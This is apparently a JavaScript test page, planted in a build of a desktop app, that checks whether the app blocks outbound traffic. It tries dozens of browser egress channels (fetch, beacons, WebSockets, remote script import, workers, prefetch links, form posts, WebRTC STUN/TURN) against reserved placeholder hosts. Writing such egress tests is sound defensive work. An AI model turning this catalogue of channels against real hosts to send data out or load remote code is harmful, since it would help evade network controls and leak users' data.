// A page that tries every way out that it knows. It is planted into a copy of the finished program; no name in it can
// exist (RFC 2606), and no address in it is anybody's (RFC 5737).
{
  const name = (what) => `${what}.claimsort-test.invalid`;
  const address = '203.0.113.7';
  let tried = 0;

  const attempt = async (way) => {
    tried += 1;
    try {
      await Promise.race([way(), new Promise((resolve) => setTimeout(resolve, 3000))]);
    } catch {
      // Being refused is what is looked for; what went out is seen from outside.
    }
  };

  const element = (tag, attributes) => {
    const made = document.createElement(tag);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    document.head.append(made);
  };

  const ways = [
    () => fetch(`http://${address}/fetch`, { mode: 'no-cors' }),
    () => fetch(`https://${name('fetch')}/`, { mode: 'no-cors' }),
    () => fetch(`http://[2001:db8::7]/`, { mode: 'no-cors' }),
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', `http://${address}/request`);
      request.send();
    },
    () => void (new Image().src = `http://${address}/image.png`),
    () => void (new Image().src = `http://${name('image')}/image.png`),
    () => void new WebSocket(`ws://${address}/`),
    () => void new WebSocket(`wss://${name('socket')}/`),
    () => void new EventSource(`http://${name('events')}/`),
    () => void navigator.sendBeacon(`http://${address}/`, 'x'),
    () => void navigator.sendBeacon(`http://${name('beacon')}/`, 'x'),
    () => new WebTransport(`https://${address}:443/`).ready,
    () => new FontFace('x', `url(http://${address}/x.woff)`).load(),
    () => import(`http://${address}/x.js`),
    () => void new Worker(`http://${address}/x.js`),
    () => navigator.serviceWorker.register(`http://${address}/x.js`),
    ...['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest'].map(
      (rel) => () => element('link', { rel, href: `http://${name(rel)}/`, as: 'image' }),
    ),
    () => element('link', { rel: 'preconnect', href: `http://${address}/` }),
    () => element('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }),
    () => element('script', { type: 'speculationrules' }),
    ...['iframe', 'embed', 'video', 'audio', 'script'].map(
      (tag) => () => element(tag, { src: `http://${name(tag)}/`, autoplay: '' }),
    ),
    () => element('object', { data: `http://${name('object')}/` }),
    () => element('style', {}),
    () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background: url(http://${name('style')}/x.png) }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
    () => void window.open(`http://${name('window')}/`),
    () => {
      const form = document.createElement('form');
      Object.assign(form, { action: `http://${name('form')}/`, method: 'post', target: 'x' });
      document.body.append(form);
      form.submit();
    },
    () => {
      const link = document.createElement('a');
      Object.assign(link, { href: '#', ping: `http://${name('ping')}/` });
      document.body.append(link);
      link.click();
    },
    async () => {
      const secret = { username: 'x', credential: 'x' };
      const peer = new RTCPeerConnection({
        iceServers: [
          { urls: [`stun:${address}:3478`, `stun:${name('stun')}:3478`] },
          { urls: [`turn:${address}:3478`, `turn:${name('turn')}:3478?transport=tcp`], ...secret },
          { urls: [`turns:${address}:443?transport=tcp`, `turn:${address}:80?transport=tcp`], ...secret },
        ],
      });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await peer.addIceCandidate({
        candidate: `candidate:1 1 udp 1 ${address} 9 typ host`,
        sdpMid: '0',
        sdpMLineIndex: 0,
      });
      await new Promise((resolve) => setTimeout(resolve, 2500));
    },
  ];

  const run = async () => {
    await Promise.all(ways.map(attempt));
    // What Chromium puts off it does within seconds.
    await new Promise((resolve) => setTimeout(resolve, 3000));
    // Told in the one place that lasts and that a page can reach: the store.
    const told = `${String(tried)} ways tried`;
    await window.claimsort?.invoke('createProfile', { profile: crypto.randomUUID(), name: told });
    document.title = told;
    location.href = `http://${name('location')}/`;
    location.href = `http://${address}/`;
  };
  setTimeout(() => void run(), 500);
}
